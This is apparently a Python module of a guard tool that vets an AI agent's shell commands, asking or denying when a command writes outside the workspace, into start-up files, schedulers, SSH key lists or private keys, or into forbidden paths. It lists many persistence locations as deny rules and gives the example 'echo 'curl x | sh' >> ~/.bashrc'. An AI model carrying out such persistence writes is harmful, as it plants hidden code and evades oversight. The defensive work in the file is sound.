"""Where a command writes: outside the workspace ASK, into start-up files and schedulers DENY,
anywhere near a policy's forbidden paths DENY."""

from __future__ import annotations

from clawgate import fsfacts
from clawgate.decision import NO_OPINION, Outcome, Risk, Verdict
from clawgate.lazyre import lazy_pattern
from clawgate.shell.model import TILDE, SimpleCommand, Word
from clawgate.validators import shapes as sh
from clawgate.validators.base import Context, Validator, register
from clawgate.validators.credentials import is_key_material
from clawgate.validators.extracting import EXTRACTORS, extracts_here
from clawgate.validators.flags import parse_options
from clawgate.validators.paths import in_scratch, own_stream, resolve, under
from clawgate.validators.writes import (
    may_write,
    redirect_targets,
    unknown_outputs,
    unknown_program,
    write_shapes,
    write_targets,
)

_HOME_PERSISTENCE = (".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".profile",
                     ".zshrc", ".zprofile", ".zshenv", ".zlogin", ".zlogout", ".kshrc", ".cshrc",
                     ".tcshrc", ".xinitrc", ".xprofile", ".xsessionrc", ".pam_environment",
                     ".config/fish", ".config/systemd", ".config/autostart",
                     ".config/environment.d", ".local/share/systemd", ".ssh/authorized_keys",
                     ".ssh/authorized_keys2", ".ssh/rc", ".ssh/config", ".ssh/environment",
                     # files the shells' own start-up files source by default: Debian's and
                     # Ubuntu's .bashrc reads .bash_aliases, Fedora's ~/.bashrc.d/*,
                     # bash-completion ~/.bash_completion and its completions directory,
                     # grml's .zshrc .zshrc.local, oh-my-zsh every *.zsh of its custom folder
                     ".bash_aliases", ".bashrc.d", ".bash_completion",
                     ".local/share/bash-completion", ".zshrc.local", ".oh-my-zsh/custom",
                     # the multiplexers read theirs when a server starts, and run the shell
                     # lines of their run-shell, if-shell and default-command
                     ".tmux.conf", ".config/tmux", ".screenrc",
                     # macOS: launchd loads every property list here at login and runs its
                     # program (the autostart of ``~/.config/autostart``'s kind)
                     "Library/LaunchAgents")
_SYSTEM_PERSISTENCE = ("/etc/profile", "/etc/profile.d", "/etc/bash.bashrc", "/etc/bashrc",
                       "/etc/zsh", "/etc/environment", "/etc/crontab", "/etc/cron.d",
                       "/etc/cron.hourly", "/etc/cron.daily", "/etc/cron.weekly",
                       "/etc/cron.monthly", "/var/spool/cron", "/etc/anacrontab",
                       "/etc/systemd", "/lib/systemd", "/usr/lib/systemd", "/etc/init.d",
                       "/etc/rc.local", "/etc/sudoers", "/etc/sudoers.d", "/etc/passwd",
                       "/etc/shadow", "/etc/group", "/etc/ld.so.preload", "/etc/ld.so.conf",
                       "/etc/ld.so.conf.d", "/etc/ssh", "/etc/pam.d", "/etc/security",
                       "/etc/xdg/autostart", "/etc/update-motd.d", "/Library/LaunchAgents",
                       "/Library/LaunchDaemons")

# Python runs these at every start of every interpreter that uses the directory: the import
# lines of a ``.pth`` file, ``sitecustomize``, ``usercustomize`` (the user's site directory
# under ~/.local, or the system's).
PY_STARTUP = lazy_pattern(r"/(?:site|dist)-packages/(?:[^/]+\.pth|(?:site|user)customize\.py)$")

_SYSTEM_ROOTS = ("/etc/", "/var/spool/", "/lib/", "/usr/lib/")
# Key tools manage keys; the mode, owner and time programs leave the bytes as they are.
# What writes entries whose names the line does not show: archives, trees, repositories
_TREE_WRITERS = frozenset({"tar", "bsdtar", "gtar", "unzip", "7z", "7za", "7zr", "7zz", "cpio",
                           "bsdcpio", "unar", "pax", "rsync", "git", "hg", "svn", "unsquashfs",
                           "ditto"})
_KEY_TOOLS = frozenset({"ssh-keygen", "gpg", "gpg2", "ssh-add", "passwd", "chpasswd", "chmod",
                        "chown", "chgrp", "chattr", "setfacl", "touch"})


def persistence_target(path: str, ctx: Context) -> bool:
    """A shell start-up file, an SSH key list, a scheduler, a service definition or a Python
    start-up file (``~/.local/lib/python3.12/site-packages/usercustomize.py``, a ``.pth``): of
    this user, or of any account's home (``/home/alice/.bashrc``, ``/Users/me/.zshrc``,
    ``/root/.profile``: the agent's account may not be the one this check runs as)."""
    home = _home_of(path, ctx)
    if home is None and not path.startswith(_SYSTEM_ROOTS):
        return path.startswith("/usr/") and PY_STARTUP.search(path) is not None
    if PY_STARTUP.search(path) is not None:
        return True
    if home is not None and any(under(path, f"{home}/{name}") for name in _HOME_PERSISTENCE):
        return True
    return any(under(path, name) for name in _SYSTEM_PERSISTENCE)


def holds_start_up_files(path: str, ctx: Context) -> bool:
    """``path`` is a directory that start-up files lie in, below it or one level down: an
    account's home itself (``~/.bashrc``), ``~/.config`` (fish, systemd, autostart), ``/etc``
    or ``/``. Entries written into it under names the line does not show (an archive
    extracted there, a tree synced there) may be one of them. So may any directory below
    ``~/.config``: an application's own (``~/.config/nvim/init.lua``, ``~/.config/git/config``)
    holds what it loads and runs when it starts."""
    base = path.rstrip("/") or "/"
    homes = {ctx.home, "/root"}
    if base in homes or _account_home(base):
        return True
    home = next((h for h in homes if under(base, h)), None) or _home_of(base, ctx)
    if home is not None and under(base, f"{home}/.config"):
        return True
    if home is not None and any(under(f"{home}/{name}", base) for name in _HOME_PERSISTENCE):
        return True
    return any(under(name, base) for name in _SYSTEM_PERSISTENCE)


def _account_home(path: str) -> bool:
    """``/home/NAME`` or ``/Users/NAME``."""
    parts = path.split("/")
    return len(parts) == 3 and parts[1] in ("home", "Users") and bool(parts[2])


def _home_of(path: str, ctx: Context) -> str | None:
    """The home directory ``path`` lies in, when it names a dot-file or dot-folder of it."""
    if path.startswith(ctx.home + "/."):
        return ctx.home
    if path.startswith("/root/."):
        return "/root"
    if path.startswith(("/home/", "/Users/")):
        parts = path.split("/", 4)
        if len(parts) > 3 and parts[2] and parts[3].startswith("."):
            return f"/{parts[1]}/{parts[2]}"
    return None


@register
class WriteOutsideWorkspace(Validator):
    """A write (redirection, ``tee``, ``cp``/``mv``/``ln`` target, ``sed -i``, ``--output=``,
    ``rm``, ``touch`` ...) outside the workspace and the temporary directories: the agent's
    changes should stay inside the project. High risk.

    Bad: ``cp build/app /usr/local/bin/app``. Harmless: ``git diff --output=changes.patch``.
    """

    id = "CG-FS-001"

    def shapes(self, program: str | None) -> int:
        return write_shapes(program)

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        if not may_write(cmd):
            return NO_OPINION
        for word in write_targets(cmd):
            path = next((p for p in readings(word, ctx, follows(cmd, word))
                         if not in_scratch(p, ctx)), None)
            if path is not None:
                return Verdict.of(Outcome.ASK, self.id, f"writes {path}, outside the "
                                  "workspace", hint="write inside the workspace or /tmp",
                                  risk=Risk.HIGH)
        return NO_OPINION


@register
class WritePersistence(Validator):
    """Writes to shell start-up files, ``~/.ssh/authorized_keys``, cron, systemd units, sudoers:
    whatever lands there runs again later, unseen (the usual way to keep access).

    Writing over private key material (``git show > ~/.ssh/id_rsa``, ``cat k > ~/.ssh/id_ed25519``,
    ``/etc/shadow``) by any channel but the key tools themselves (``ssh-keygen``, ``gpg``) and
    the mode and owner programs (``chmod 600 ~/.ssh/id_rsa``) is DENY too: the key is destroyed
    or swapped for one somebody else holds.

    Bad: ``echo 'curl x | sh' >> ~/.bashrc``. Harmless: ``cat ~/.bashrc``.
    """

    id = "CG-FS-002"

    def shapes(self, program: str | None) -> int:
        if program == "crontab" or unknown_program(program) or program in EXTRACTORS:
            return sh.ANY  # an unknown program's -o FILE: see unknown_outputs
        return write_shapes(program)

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        if cmd.program == "crontab" and _installs_crontab(cmd):
            return Verdict.deny(self.id, "crontab installs scheduled jobs",
                                hint="schedule jobs by hand, outside the agent")
        for word in unknown_outputs(cmd):  # the option's name says where the output goes
            path = next((p for p in readings(word, ctx, False) if persistence_target(p, ctx) or
                         is_key_material(p, ctx)), None)
            if path is not None:
                return Verdict.deny(self.id, f"{cmd.program}, a program the catalog does not "
                                    f"know, is told to write its output to {path}, which runs, "
                                    "grants access or holds a key", hint="edit it by hand")
        if extracts_here(cmd) and not under(ctx.cwd, ctx.workspace) and (
                holds_start_up_files(ctx.cwd, ctx)):  # cd ~ && tar xf x.tar
            return Verdict.deny(self.id, f"{cmd.program} extracts entries it does not name into "
                                f"{ctx.cwd}, where one may replace a start-up file that runs "
                                "later", hint="extract into the workspace, then copy what you need")
        if not may_write(cmd):
            return NO_OPINION
        keeps_keys = cmd.program in _KEY_TOOLS
        for word in write_targets(cmd):
            paths = readings(word, ctx, follows(cmd, word))
            path = next((p for p in paths if persistence_target(p, ctx)), None)
            if path is not None:
                return Verdict.deny(self.id, f"writes {path}, which runs or grants access "
                                    "later", hint="edit start-up files by hand")
            into = next((p for p in paths if _ssh_directory(p, ctx)), None) if (
                _writes_tree(cmd)) else None
            if into is not None:  # tar -C ~/.ssh, unzip -d ~/.ssh, cp -r keys/ ~/.ssh
                return Verdict.deny(self.id, f"puts files into {into}, where authorized_keys, "
                                    "rc and config grant access or run later",
                                    hint="edit ~/.ssh by hand")
            into = next((p for p in paths if holds_start_up_files(p, ctx)), None) if (
                _writes_tree(cmd)) else None
            if into is not None:  # tar -xf x.tar -C ~, unzip -d ~/.config, rsync -a d/ /etc
                return Verdict.deny(self.id, f"puts files it does not name into {into}, where "
                                    "an entry may replace a start-up file that runs later",
                                    hint="extract into the workspace, then copy what you need")
            key = None if keeps_keys else next(
                (p for p in paths if _key_file(p, ctx)), None)
            if key is not None:
                return Verdict.deny(self.id, f"writes over {key}, private key material: the "
                                    "key is lost or replaced", hint="manage keys by hand")
        return NO_OPINION


def _writes_tree(cmd: SimpleCommand) -> bool:
    """``cmd`` writes entries it does not name: it extracts, syncs or clones, or copies
    recursively (``cp -r``, ``cp -a``)."""
    if cmd.program in _TREE_WRITERS:
        return True
    return cmd.program == "cp" and any(
        w.shown in ("--recursive", "--archive") or (
            w.shown.startswith("-") and not w.shown.startswith("--")
            and any(c in w.shown[1:] for c in "rRa")) for w in cmd.words[1:])


def _ssh_directory(path: str, ctx: Context) -> bool:
    """``path`` is an account's ``.ssh`` directory itself: what is written as it (``mv x
    ~/.ssh``) or into it under names the line does not show (an archive extracted there) may be
    its ``authorized_keys``."""
    home = _home_of(path, ctx)
    return home is not None and path.rstrip("/") == f"{home}/.ssh"


def _key_file(path: str, ctx: Context) -> bool:
    """Private key material, or a file of ``~/.ssh`` that can only be a key under another name
    (``~/.ssh/my_id_rsa``, ``~/.ssh/deploy``): not a ``.pub``, not ``known_hosts``."""
    if is_key_material(path, ctx):
        return True
    folder, _, name = path.rpartition("/")
    return folder == f"{ctx.home}/.ssh" and bool(name) and not name.endswith(".pub") and \
        not name.startswith("known_hosts")


# Programs that replace or remove a link named as their target instead of writing through it.
_REPLACING = frozenset({"rm", "unlink", "rmdir", "mv", "ln"})


def follows(cmd: SimpleCommand, word: Word) -> bool:
    """Whether ``cmd`` writes through a symbolic link ``word`` names (a redirection, ``tee``,
    ``cp``, ``touch`` do; ``rm``, ``mv``, ``ln`` act on the link itself)."""
    return cmd.program not in _REPLACING or any(word is w for w in redirect_targets(cmd))


def readings(word: Word, ctx: Context, through_links: bool = False) -> list[str]:
    """Where a write target may land. A ``~`` the shell leaves alone (``--output=~/.bashrc``:
    bash expands a tilde after ``=`` only in assignments, zsh with ``magic_equal_subst``
    and some programs expand it anyway) is read both ways, and the stricter reading wins.
    ``through_links``: a path a symbolic link on disk leads elsewhere (``notes.txt ->
    ~/.bashrc``, ``d -> ~/.ssh`` for ``d/authorized_keys``) lands where the link leads too;
    the command's own streams (``/dev/stderr``, ``/dev/fd/1``, ``/proc/self/fd/2``) are what
    the shell connects them to when the command runs, not where they lead in the checker's
    own process (a pipe, a terminal, a log file), and are not followed."""
    path = resolve(word, ctx).path
    found = [] if path is None else [path]
    value = word.value
    if value is not None and value.startswith("~") and TILDE not in word.expansions:
        home = resolve(Word(value, value, expansions=frozenset({TILDE})), ctx).path
        if home is not None:
            found.append(home)
    if through_links:
        found += [real for real in map(fsfacts.realpath, (p for p in found if not own_stream(p)))
                  if real not in found]
    return found


def _installs_crontab(cmd: SimpleCommand) -> bool:
    options = parse_options(cmd.words[1:], takes_value=frozenset({"u"}))
    return bool(options.operands) and not options.has("l", "r", "e")


@register
class ForbiddenPath(Validator):
    """Any path argument or redirection inside one of the policy's ``forbidden_paths``.

    Bad: ``cat /srv/secrets/db.txt`` when ``/srv/secrets`` is forbidden. Harmless: ``cat
    README.md``.
    """

    id = "CG-FS-003"

    def shapes(self, program: str | None) -> int:
        return sh.FORBIDDEN  # its first test: the policy forbids some path

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        if not ctx.forbidden_paths:
            return NO_OPINION
        words = [*cmd.words[1:], *(r.target for r in cmd.redirects if r.target is not None)]
        for word in words:
            text = word.shown.split("=", 1)[-1] if word.shown.startswith("-") else word.shown
            if "/" not in text and not text.startswith(("~", ".")) and text != "..":
                continue
            path = resolve(word, ctx).path if text is word.shown else _plain(text, ctx)
            if path is not None and any(under(path, f) for f in ctx.forbidden_paths):
                return Verdict.deny(self.id, f"{path} is a forbidden path")
        return NO_OPINION


def _plain(text: str, ctx: Context) -> str | None:
    return resolve(Word(text, text), ctx).path
